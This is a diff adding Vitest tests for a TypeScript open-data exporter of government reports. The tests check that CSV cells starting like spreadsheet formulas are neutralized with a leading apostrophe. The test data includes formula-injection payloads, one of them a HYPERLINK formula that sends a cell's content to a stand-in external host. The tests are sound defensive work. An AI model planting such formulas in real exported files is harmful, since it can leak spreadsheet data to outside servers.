@@ -4,6 +4,8 @@ import { describe, expect, it } from 'vitest';
 import { agencyOf, buildArchive, type Agency, type Report } from '../../src/lib/archive.ts';
 import { COLUMNS } from '../../src/lib/opendata/columns.ts';
 import { reportRow, reportsCsvPieces } from '../../src/lib/opendata/reports.ts';
+import { csvRows, neutralizeCell } from '../../src/lib/opendata/csv.ts';
+import { frameCsv, frameOf } from '../../src/lib/opendata/frames.ts';
 
 const agency = (n: number): Agency => ({
   id: `3703${String(n).padStart(2, '0')}-a${n}`, name: `第${n}局, "甲"`, shortName: `第${n}局`, aliases: [], province: '山东省', city: '淄博市',
@@ -32,5 +34,33 @@ describe('reports.csv in pieces', () => {
 
   it('writes a header alone for an empty archive', () => {
     expect([...reportsCsvPieces(buildArchive(agencies, []))].join('')).toBe(`\uFEFF${COLUMNS.map((c) => c.name).join(',')}\n`);
+  });
+});
+
+describe('CSV cells that a spreadsheet would run', () => {
+  const hostile = ['=HYPERLINK("http://x.example/"&A1,"点击查看")', '+1+1', '-2+3', '@SUM(A1:A9)', '\t=1', '\r=1', '-18元'];
+
+  it('gets a leading apostrophe in every text cell that starts like a formula, and nowhere else', () => {
+    for (const text of hostile) expect(neutralizeCell(text)).toBe(`'${text}`);
+    for (const text of ['平潭综合实验区2021年报告', '（一）政府信息公开', "'已有引号", ' =前有空格']) expect(neutralizeCell(text)).toBe(text);
+  });
+
+  it('keeps numbers numbers: a negative value is written as -18, not as text', () => {
+    const rows = parse(csvRows([['a', 'b'], [-18, '-18'], [0.5, '=1']]), { cast: false }) as string[][];
+    expect(rows[1]).toEqual(['-18', "'-18"]);
+    expect(rows[2]).toEqual(['0.5', "'=1"]);
+  });
+
+  it('leaves no live formula in reports.csv or a frame for hostile titles and names', () => {
+    const evil = hostile.map((t, i) => ({ ...agency(90 + i), name: t, shortName: t }));
+    const archive = buildArchive(evil, evil.map((a, i) => ({ ...report(a, 2020, i), title: hostile[i]! })));
+    const csv = [...reportsCsvPieces(archive)].join('').slice(1);
+    const rows = parse(csv, { columns: true }) as Record<string, string>[];
+    expect(rows).toHaveLength(hostile.length);
+    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    expect(rows.map((r) => r['title'])).toEqual(archive.reports.map((r) => `'${r.title}`));
+    const frame = parse(frameCsv(frameOf(archive, 'proactive_total', 2020, archive.reports)).slice(1), { columns: true }) as Record<string, string>[];
+    expect(frame.map((r) => r['name'])).toEqual(archive.reports.map((r) => `'${agencyOf(archive, r).shortName}`));
+    expect(frame.map((r) => r['value'])).toEqual(archive.reports.map((r) => String(r.metrics['proactive_total']!.value)));
   });
 });
